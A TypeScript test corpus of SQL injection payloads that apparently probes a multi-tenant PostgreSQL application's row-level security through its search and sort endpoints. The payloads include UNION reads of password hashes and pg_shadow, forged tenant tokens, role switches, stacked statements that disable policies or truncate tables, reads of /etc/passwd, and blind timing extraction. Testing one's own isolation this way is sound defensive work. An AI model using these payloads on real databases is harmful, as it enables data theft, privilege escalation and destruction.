/**
 * Injected expressions: what goes into `WHERE <here> limit 100` and `ORDER BY <here>`.
 *
 * A corpus, not a proof: each line is a way out that works, or once worked, against row-level security that
 * trusts its session. Kept as data so that adding one is adding a line.
 */
import type { AttackFamily, AttackTarget, Attempt } from './attempt.ts';

interface Expression {
  readonly family: AttackFamily;
  readonly name: string;
  readonly where: string;
  readonly tell?: 'rows' | 'delay';
}

/** What the page "Try to break out" offers to click. */
export const attacksToTry: readonly { readonly label: string; readonly where: string }[] = [
  { label: 'Everything', where: 'true or 1=1' },
  { label: 'Everyone’s e-mail', where: 'false union all select id, name, email from person' },
  {
    label: 'Everyone’s invoices',
    where: 'false union all select id, customer, number from invoice',
  },
  {
    label: 'Become another tenant',
    where: `set_config('bulkhead.context', '', false) is not null`,
  },
  {
    label: 'Become the operator',
    where: `set_config('role', 'notes_operator', false) is not null`,
  },
  {
    label: 'The signing key',
    where: "false union all select null, kid, encode(ipad, 'hex') from bulkhead.context_key",
  },
  {
    label: 'What others run',
    where: 'false union all select null, usename, query from pg_stat_activity',
  },
  {
    label: 'SQL inside XML',
    where: `query_to_xml('select * from note', true, true, '') is not null`,
  },
  { label: 'Two statements', where: 'true; reset role; select * from note --' },
];

function literal(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}

function widened(target: AttackTarget): Expression[] {
  const family = 'widened condition';
  return [
    { family, name: 'everything', where: 'true' },
    { family, name: 'or 1=1', where: `n.id is null or 1=1` },
    {
      family,
      name: 'every tenant but mine',
      where: `n.tenant_id <> ${literal(target.attackerTenantId)}`,
      tell: 'rows',
    },
    {
      family,
      name: 'the victim by id',
      where: `n.tenant_id = ${literal(target.victimTenantId)}`,
      tell: 'rows',
    },
    {
      family,
      name: 'the victim’s note by id',
      where: `n.id = ${literal(target.victimNoteId)}`,
      tell: 'rows',
    },
    { family, name: 'comment cuts the rest off', where: 'true --' },
    { family, name: 'comment opens', where: 'true /*' },
    { family, name: 'closing parenthesis', where: 'true) or (true' },
    {
      family,
      name: 'null trick',
      where: `n.tenant_id is distinct from ${literal(target.attackerTenantId)}`,
      tell: 'rows',
    },
  ];
}

function unions(target: AttackTarget): Expression[] {
  const family = 'UNION and sub-select';
  const from = (name: string, select: string): Expression => ({
    family,
    name,
    where: `false union all ${select}`,
  });
  const victim = literal(target.victimTenantId);
  return [
    from('notes', 'select id, title, body from note'),
    from('people', 'select id, email, name from person'),
    from('password hashes', 'select user_id, hash, null from bulkhead.password'),
    from('invoices', 'select id, customer, number from invoice'),
    from('invoice lines', 'select id, description, unit_cents::text from invoice_line'),
    from('comments', 'select id, body, author_id::text from comment'),
    from('activity', 'select id, verb, object from activity'),
    from('one partition of activity', 'select id, verb, object from activity_2026_01'),
    from('the default partition', 'select id, verb, object from activity_other'),
    from('the view', 'select id, name, summary from project_summary'),
    from('the search function', `select id, title, excerpt from search_notes('filed')`),
    from('whole rows as JSON', 'select null::uuid, null, row_to_json(p)::text from project p'),
    from(
      'aggregated',
      `select null::uuid, string_agg(title, '|'), string_agg(body, '|') from note`,
    ),
    from(
      'lateral',
      'select x.id, x.title, x.body from person p, lateral (select * from note where author_id = p.id) x',
    ),
    from(
      'recursive',
      'select * from (with recursive r as (select id, title, body from note union select id, title, body from note) select * from r) r',
    ),
    from('the victim alone', `select id, title, body from note where tenant_id = ${victim}`),
    from('physical order', `select id, title, body from note where ctid > '(0,0)'`),
    from('table sample', 'select id, title, body from note tablesample bernoulli (100)'),
    from('inherited only', 'select id, verb, object from only activity'),
    {
      family,
      name: 'sub-select in the condition',
      where: `n.title = any (select title from note where tenant_id <> n.tenant_id) or n.body like any (select email from person where tenant_id = ${victim})`,
      tell: 'rows',
    },
    {
      family,
      name: 'delete inside',
      where: 'n.id in (with gone as (delete from note returning id) select id from gone)',
    },
  ];
}

function contexts(target: AttackTarget): Expression[] {
  const family = 'forged or stolen context';
  const set = (name: string, token: string, local: boolean): Expression => ({
    family,
    name: `${name} token${local ? '' : ', for the session'}`,
    where: `set_config('bulkhead.context', ${literal(token)}, ${local}) is not null`,
  });
  const mine = literal(target.attackerTenantId);
  const victims = literal(target.victimTenantId);
  const stolen = literal(target.tokens.stolen);
  return [
    ...Object.entries(target.tokens).flatMap(([name, token]) => [
      set(name, token, true),
      set(name, token, false),
    ]),
    {
      family,
      name: 'own token, tenant swapped',
      where: `set_config('bulkhead.context', replace(current_setting('bulkhead.context'), ${mine}, ${victims}), true) is not null`,
    },
    {
      family,
      name: 'own token read',
      where: `false union all select null::uuid, 'token', current_setting('bulkhead.context', true)`,
    },
    { family, name: 'context emptied', where: `set_config('bulkhead.context', '', true) = ''` },
    {
      family,
      name: 'qualified',
      where: `pg_catalog.set_config('bulkhead.context', ${stolen}, true) is not null`,
    },
    {
      family,
      name: 'quoted',
      where: `"set_config"('bulkhead.context', ${stolen}, true) is not null`,
    },
    {
      family,
      name: 'unicode escape',
      where: `U&"set\\005fconfig"('bulkhead.context', ${stolen}, true) is not null`,
    },
    {
      family,
      name: 'named notation',
      where: `set_config(setting_name => 'bulkhead.context', new_value => ${stolen}, is_local => true) is not null`,
    },
    {
      family,
      name: 'inside a CTE, then read',
      where: `false union all select * from (with s as materialized (select set_config('bulkhead.context', ${stolen}, true)) select n.id, n.title, n.body from s, note n) x`,
    },
    {
      family,
      name: 'by updating pg_settings',
      where: `n.id in (with s as (update pg_settings set setting = ${stolen} where name = 'bulkhead.context' returning 1) select id from note, s)`,
    },
    {
      family,
      name: 'comment between name and parenthesis',
      where: `set_config/**/('bulkhead.context',${stolen},true) is not null`,
    },
    {
      family,
      name: 'as an operator’s table function',
      where: `false union all select null::uuid, s, s from set_config('bulkhead.context', ${stolen}, true) s`,
    },
  ];
}

function sessions(): Expression[] {
  const family = 'session poisoning';
  const set = (setting: string, value: string): Expression => ({
    family,
    name: setting,
    where: `set_config('${setting}', '${value}', false) is not null`,
  });
  return [
    set('search_path', 'pg_temp, public'),
    set('row_security', 'off'),
    set('session_replication_role', 'replica'),
    set('standard_conforming_strings', 'off'),
    set('transform_null_equals', 'on'),
    set('DateStyle', 'German'),
    set('default_transaction_read_only', 'on'),
    set('statement_timeout', '1'),
    set('debug_print_plan', 'on'),
    { family, name: 'seed of random()', where: 'setseed(0.5) is not null' },
    { family, name: 'advisory lock kept', where: 'pg_advisory_lock(42) is not null' },
    { family, name: 'large object', where: `lo_from_bytea(0, 'x') > 0` },
    { family, name: 'notify', where: `pg_notify('all', 'x') is not null` },
    {
      family,
      name: 'into a temporary table',
      where: 'true union all select * into temp x from note',
    },
  ];
}

function roles(): Expression[] {
  const family = 'role switch';
  return ['notes_operator', 'notes_owner', 'bulkhead', 'postgres', 'none'].flatMap(
    (role): Expression[] => [
      { family, name: `role ${role}`, where: `set_config('role', '${role}', true) is not null` },
      {
        family,
        name: `session authorization ${role}`,
        where: `set_config('session_authorization', '${role}', false) is not null`,
      },
      { family, name: `SET ROLE ${role}`, where: `true; set role ${role}; select * from note --` },
    ],
  );
}

function stacked(target: AttackTarget): Expression[] {
  const family = 'stacked statements';
  const stolen = literal(target.tokens.stolen);
  return [
    'select id, title, body from note',
    'reset all; select id, title, body from note',
    `set bulkhead.context = ${stolen}; select id, title, body from note`,
    'do $$ begin perform 1; end $$',
    `do $x$ begin perform set_config('bulkhead.context', ${stolen}, false); commit; perform 1/0; end $x$`,
    'call pg_catalog.pg_sleep(0)',
    'begin; select 1',
    'commit; select id, title, body from note',
    'rollback',
    'alter table note disable row level security',
    'drop policy bulkhead_tenant on note',
    'create policy open on note using (true)',
    'create function f() returns int language sql as $$ select 1 $$',
    `prepare p as select * from note; execute p`,
    'deallocate all',
    'discard all',
    'listen everything',
    'lock table note in access exclusive mode',
    `copy note to stdout`,
    `copy (select * from note) to program 'cat'`,
    'truncate note cascade',
    'declare c cursor with hold for select * from note',
    'explain analyze select * from note',
    'alter role notes_app bypassrls',
    'grant notes_operator to notes_app',
    'savepoint s; rollback to s',
    'vacuum note',
  ].map((statement) => ({ family, name: statement, where: `true; ${statement} --` }));
}

function hidden(target: AttackTarget): Expression[] {
  const family = 'SQL hidden in text';
  const inner = literal(
    `select set_config('bulkhead.context', ${literal(target.tokens.stolen)}, true); select * from note`,
  );
  return [
    {
      family,
      name: 'query_to_xml',
      where: `false union all select null::uuid, '', query_to_xml('select * from note', true, true, '')::text`,
    },
    {
      family,
      name: 'query_to_xml with a stolen context',
      where: `query_to_xml(${inner}, true, true, '') is not null`,
    },
    {
      family,
      name: 'table_to_xml',
      where: `false union all select null::uuid, '', table_to_xml('note', true, true, '')::text`,
    },
    {
      family,
      name: 'schema_to_xml',
      where: `false union all select null::uuid, '', schema_to_xml('public', true, true, '')::text`,
    },
    {
      family,
      name: 'database_to_xml',
      where: `false union all select null::uuid, '', database_to_xml(true, true, '')::text`,
    },
    { family, name: 'cursor_to_xml', where: `cursor_to_xml('c', 10, true, true, '') is not null` },
    { family, name: 'ts_stat', where: `exists (select * from ts_stat('select search from note'))` },
    {
      family,
      name: 'ts_rewrite',
      where: `ts_rewrite('a'::tsquery, 'select search::text::tsquery, null from note') is not null`,
    },
    {
      family,
      name: 'dblink',
      where: `exists (select * from dblink('dbname=postgres', 'select 1') as t(a int))`,
    },
    {
      family,
      name: 'quoted mixed case',
      where: `"query_to_xml"('select 1', true, true, '') is not null`,
    },
  ];
}

function errors(target: AttackTarget): Expression[] {
  const family = 'error messages';
  const victim = literal(target.victimTenantId);
  return [
    {
      family,
      name: 'cast to integer',
      where: `(select string_agg(title, ',') from note)::integer = 1`,
    },
    {
      family,
      name: 'cast of the victim’s rows',
      where: `(select string_agg(email, ',') from person where tenant_id = ${victim})::integer = 1`,
    },
    { family, name: 'cast before the policy', where: 'n.title::integer = 1' },
    {
      family,
      name: 'cast to uuid',
      where: 'exists (select 1 from person where email::uuid is null)',
    },
    { family, name: 'cast to json', where: 'exists (select 1 from note where body::json is null)' },
    {
      family,
      name: 'division by a foreign count',
      where: `1 / (select count(*) from note where tenant_id = ${victim}) = 1`,
    },
    {
      family,
      name: 'xpath',
      where: `xpath('/' || (select title from note where tenant_id = ${victim} limit 1), '<a/>') is not null`,
    },
    {
      family,
      name: 'bad regular expression',
      where: `'x' ~ ('[' || (select string_agg(email, ',') from person))`,
    },
    {
      family,
      name: 'to_date',
      where: `to_date((select email from person where tenant_id = ${victim} limit 1), 'YYYY') is null`,
    },
    {
      family,
      name: 'leaky order',
      where: `case when n.tenant_id = ${victim} then n.title::integer else 1 end = 1`,
    },
    {
      family,
      name: 'range of aggregated text',
      where: `(select array_agg(customer order by customer)::int[] from invoice) is null`,
    },
  ];
}

function blind(target: AttackTarget): Expression[] {
  const family = 'yes/no and timing';
  const title = literal(target.victimNoteTitle);
  const email = literal(target.victimEmail);
  return [
    {
      family,
      name: 'does this note exist',
      where: `exists (select 1 from note where title = ${title})`,
      tell: 'rows',
    },
    {
      family,
      name: 'does this person exist',
      where: `exists (select 1 from person where email = ${email})`,
      tell: 'rows',
    },
    {
      family,
      name: 'letter by letter',
      where: `(select ascii(substr(email, 1, 1)) from person where email = ${email}) > 0`,
      tell: 'rows',
    },
    {
      family,
      name: 'count of the others',
      where: `(select count(*) from note where tenant_id <> ${literal(target.attackerTenantId)}) > 0`,
      tell: 'rows',
    },
    {
      family,
      name: 'sleep if the note exists',
      where: `case when exists (select 1 from note where title = ${title}) then (select pg_sleep(0.4)) is null else true end`,
      tell: 'delay',
    },
    {
      family,
      name: 'sleep per foreign row',
      where: `(select count(pg_sleep(0.05)) from invoice where tenant_id = ${literal(target.victimTenantId)}) > 0`,
      tell: 'delay',
    },
  ];
}

function catalog(): Expression[] {
  const family = 'catalog and neighbours';
  const from = (name: string, select: string): Expression => ({
    family,
    name,
    where: `false union all ${select}`,
  });
  return [
    from('pg_stat_activity', 'select null::uuid, usename::text, query from pg_stat_activity'),
    from(
      'pg_stat_get_activity()',
      'select null::uuid, usename::text, query from pg_stat_get_activity(null)',
    ),
    from('pg_stat_statements', 'select null::uuid, query, query from pg_stat_statements'),
    from(
      'pg_prepared_statements',
      'select null::uuid, name, statement from pg_prepared_statements',
    ),
    from('pg_stats', 'select null::uuid, tablename::text, most_common_vals::text from pg_stats'),
    from('pg_statistic', 'select null::uuid, starelid::text, stavalues1::text from pg_statistic'),
    from('pg_settings', 'select null::uuid, name, setting from pg_settings'),
    from('pg_authid', 'select null::uuid, rolname::text, rolpassword from pg_authid'),
    from('pg_shadow', 'select null::uuid, usename::text, passwd from pg_shadow'),
    from(
      'the signing key',
      `select null::uuid, kid, encode(ipad, 'hex') from bulkhead.context_key`,
    ),
    from(
      'operators’ crossings',
      'select null::uuid, actor, reason from bulkhead.operator_crossing',
    ),
    from('tenant directory', 'select null::uuid, t::text, null from bulkhead.tenant t'),
    from('pg_locks', 'select null::uuid, mode, relation::text from pg_locks'),
    from('a file', `select null::uuid, '', pg_read_file('/etc/passwd')`),
    from('a directory', `select null::uuid, '', pg_ls_dir('/')`),
    from('large objects', 'select null::uuid, loid::text, data::text from pg_largeobject'),
    {
      family,
      name: 'end all sessions',
      where: 'exists (select pg_terminate_backend(pid) from pg_stat_activity)',
    },
    {
      family,
      name: 'cancel all sessions',
      where: 'exists (select pg_cancel_backend(pid) from pg_stat_activity)',
    },
    {
      family,
      name: 'end sessions by guessing',
      where: 'exists (select pg_terminate_backend(g) from generate_series(1, 32768) g)',
    },
  ];
}

/** Every expression through the WHERE route; those that are one expression through ORDER BY as well. */
export function injections(target: AttackTarget): readonly Attempt[] {
  const expressions = [
    ...widened(target),
    ...unions(target),
    ...contexts(target),
    ...sessions(),
    ...roles(),
    ...stacked(target),
    ...hidden(target),
    ...errors(target),
    ...blind(target),
    ...catalog(),
  ];
  return expressions.flatMap(({ where, ...rest }): Attempt[] => {
    const search: Attempt = {
      ...rest,
      method: 'GET',
      path: `/api/search?where=${encodeURIComponent(where)}`,
    };
    // ORDER BY sees the attacker's own rows whatever it says, so rows tell nothing there.
    if (rest.tell === 'rows' || where.startsWith('false union')) return [search];
    const sort = where.startsWith('true; ') ? `1${where.slice('true'.length)}` : `(${where})`;
    return [
      search,
      {
        ...rest,
        name: `${rest.name} (sort)`,
        method: 'GET',
        path: `/api/notes?sort=${encodeURIComponent(sort)}`,
      },
    ];
  });
}
